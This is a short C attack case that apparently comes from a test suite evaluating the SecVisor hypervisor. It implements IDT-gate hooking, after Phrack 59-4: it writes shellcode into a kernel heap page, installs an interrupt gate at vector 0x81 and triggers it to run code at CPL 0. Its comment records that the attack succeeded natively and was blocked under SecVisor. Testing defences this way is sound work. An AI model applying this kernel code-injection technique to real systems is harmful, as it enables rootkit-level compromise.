// Row 8. A gate of the IDT, written in place, leads to kernel heap.
// Source: IDT hooking (kad, Phrack 59-4).
// Ends: natively succeeded; beneath SecVisor refused, unapproved-code.
#include "common/attack.h"
#include <string.h>

ATTACK("idt-gate-heap")
{
	struct vulnerable_operation op = { .what = VULNERABLE_TABLES };
	u8 entry[16];
	long result;
	u64 handler = kernel_page();

	kwrite(handler, "\xb8\x37\x13\0\0\x48\xcf", 7); // mov eax, 0x1337; iretq
	make_executable(handler);
	prepare_entry();
	if (try_operate(&op))
		failed("no tables");
	interrupt_gate(entry, handler, 2);
	poke_bytes(op.out[0] + 0x81 * 16, entry, sizeof(entry));
	about_to("take an interrupt through a gate of our own");
	unprotect();
	result = interrupt_prepared();
	if (result == MARK)
		succeeded("INT 81h ran our handler at CPL 0");
	failed("INT 81h returned %ld", result);
}
